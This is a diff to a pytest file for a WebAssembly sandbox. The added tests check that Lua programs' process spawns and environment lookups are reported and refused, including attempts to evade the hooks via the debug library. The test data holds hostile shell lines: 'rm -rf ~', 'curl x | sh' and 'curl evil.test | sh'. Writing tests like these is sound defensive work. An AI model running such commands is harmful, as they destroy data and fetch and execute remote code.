@@ -21,6 +21,7 @@ import pytest
 
 from backends.wasm import WasmBackend
 from playground.core import Attempt, AttemptKind, Limits, Observer, Sandbox, Session, Spec
+from playground.core.attempts import MAX_TARGET
 from playground.packs import javascript, lua, python, typescript
 from tests.integration.wasm.conftest import need_runtime, open_session
 from tests.integration.wasm.test_repl_cli import REPO
@@ -291,7 +292,7 @@ async def test_lua_reports_execute_popen_and_env(real: Sandbox) -> None:
     need_runtime(real, "lua")
     result = await real.run(Spec(lang="lua", code=code, env={"GIVEN": "yes"}))
     assert result.exit_code == 0, result.stderr
-    assert seen(result.attempts) == {  # and no "closed the channel": Lua closing its files at exit is not tampering
+    assert seen(result.attempts) == {  # and no "closed the channel": Lua ending is not tampering
         (AttemptKind.PROCESS_SPAWN, "rm -rf ~", GUEST_PROC, Observer.GUEST),
         (AttemptKind.PROCESS_SPAWN, "curl x | sh", GUEST_PROC, Observer.GUEST),
         (AttemptKind.ENV_LOOKUP, "TOKEN", "refused: not given to the program", Observer.GUEST),
@@ -299,8 +300,8 @@ async def test_lua_reports_execute_popen_and_env(real: Sandbox) -> None:
 
 
 async def test_lua_opens_its_report_channel_with_its_own_functions_at_the_first_report(real: Sandbox) -> None:
-    """The channel is opened by the first report (``lua_watch``): what the program replaced before it is not
-    what opens and writes it."""
+    """The channel is opened by the first report (in C: ``runtime_sources/lua/playground_lua.c``): what the
+    program replaced before it is not what opens and writes it."""
     code = "io.open, setmetatable, string.format = nil, nil, nil\nprint(os.execute('id\\n'), os.getenv('TOKEN'))\n"
     need_runtime(real, "lua")
     result = await real.run(Spec(lang="lua", code=code))
@@ -309,6 +310,46 @@ async def test_lua_opens_its_report_channel_with_its_own_functions_at_the_first_
         (AttemptKind.PROCESS_SPAWN, "id\\x0a", GUEST_PROC, Observer.GUEST),
         (AttemptKind.ENV_LOOKUP, "TOKEN", "refused: not given to the program", Observer.GUEST),
     }, seen(result.attempts)
+
+
+async def test_a_lua_program_cannot_reach_around_its_report(real: Sandbox) -> None:
+    """The hooks are C functions: no upvalue holds an unwatched original for the debug library to take, and no
+    Lua file holds the channel: a program that closes every file it can reach still has its attempts reported
+    (and no "closed the channel": it never reached it)."""
+    code = (
+        "local found = {}\n"
+        "for _, f in ipairs({os.execute, io.popen, os.getenv}) do\n"
+        "  assert(debug.getinfo(f, 'S').what == 'C')\n"
+        "  for i = 1, 10 do local name, value = debug.getupvalue(f, i); if name then found[#found + 1] = value end\n"
+        "  end\n"
+        "end\n"
+        "print('upvalues', #found)\n"
+        "for _, v in pairs(debug.getregistry()) do if io.type(v) == 'file' then pcall(v.close, v) end end\n"
+        "os.execute('curl evil.test | sh')\n"
+        "io.stderr:write(tostring(os.getenv('SECRET')), '\\n')\n"
+    )
+    need_runtime(real, "lua")
+    result = await real.run(Spec(lang="lua", code=code))
+    assert result.stdout == b"upvalues\t0\n" and result.stderr == b"nil\n", (result.stdout, result.stderr)
+    assert seen(result.attempts) == {
+        (AttemptKind.PROCESS_SPAWN, "curl evil.test | sh", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.ENV_LOOKUP, "SECRET", "refused: not given to the program", Observer.GUEST),
+    }, seen(result.attempts)
+
+
+async def test_a_lua_report_is_escaped_and_cut_as_the_host_expects(real: Sandbox) -> None:
+    """Targets are the program's bytes: NULs, quotes, backslashes and newlines go through escaped, and a long one
+    is cut in the guest (at 300 bytes), so its line stays under the host's bound for a report line (4096 bytes: an
+    over-long line would be recorded as tampering)."""
+    code = "os.getenv('A\\0B\"C\\\\D\\nE' .. string.rep('x', 5000))\nos.execute('true')\n"
+    need_runtime(real, "lua")
+    result = await real.run(Spec(lang="lua", code=code))
+    assert result.exit_code == 0, result.stderr
+    (env, spawn) = sorted(result.attempts, key=lambda a: a.kind.value)
+    assert (spawn.kind, spawn.target) == (AttemptKind.PROCESS_SPAWN, "true")
+    assert env.kind is AttemptKind.ENV_LOOKUP and env.observer is Observer.GUEST
+    assert env.target.startswith('A\\x00B"C\\D\\x0aExxx') and env.target.endswith("x…"), env.target
+    assert len(env.target) == MAX_TARGET  # the host's own cut, for display
 
 
 async def test_a_lua_error_in_popen_still_names_the_programs_line(real: Sandbox) -> None:
